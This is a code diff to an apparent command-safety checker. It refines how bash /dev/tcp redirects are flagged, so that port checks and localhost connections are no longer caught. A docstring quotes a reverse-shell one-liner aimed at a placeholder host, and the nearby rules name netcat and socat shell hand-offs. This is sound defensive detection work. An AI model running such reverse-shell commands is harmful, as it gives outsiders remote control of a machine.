@@ -371,6 +371,22 @@ def _sent_output(command: Command) -> str | None:
     return None
 
 
+def _raw_connection(command: Command) -> bool:
+    """bash's ``/dev/tcp/HOST/PORT`` to another machine, carrying a command's input or
+    output (``bash -i >& /dev/tcp/h/4242 0>&1``, ``exec 3<>/dev/tcp/h/p`` kept for later).
+    A port check sends nothing (``(echo > /dev/tcp/db/5432) && echo up``, ``timeout 1 bash
+    -c '</dev/tcp/h/p'``), and localhost is no remote."""
+    hosts = [r.target.partition("/dev/")[2].split("/")[1:2] for r in command.redirects
+             if "/dev/tcp/" in r.target or "/dev/udp/" in r.target]
+    if not hosts:
+        return False
+    if all(h and (h[0] in _LOCAL or h[0].startswith("127.")) for h in hosts):
+        return False
+    checks = not command.argv and "exec" not in command.wrapper_names or command.name in (":", "true") or \
+        command.name == "echo" and all(a in ("-n", "-e", "") for a in command.args)
+    return not checks
+
+
 def _archives_everything(command: Command) -> bool:
     """``tar cz .``, ``zip -r - ~``: an archive of the whole project or home on the output."""
     return command.name in ("tar", "zip", "cpio", "7z", "bsdtar", "gtar") and \
@@ -382,7 +398,7 @@ def _socket_or_tunnel(command: Command) -> str | None:
     if name in ("nc", "ncat", "netcat") and any(a in ("-e", "-c") or a.startswith(("-e", "--exec", "--sh-exec"))
                                                 for a in args):
         return "hands a shell to a network socket"
-    if any("/dev/tcp/" in r.target or "/dev/udp/" in r.target for r in command.redirects):
+    if _raw_connection(command):
         return "opens a raw network connection from the shell (/dev/tcp)"
     if name == "socat" and any("exec:" in a.lower() or "system:" in a.lower() for a in args):
         return "hands a shell to a network socket"
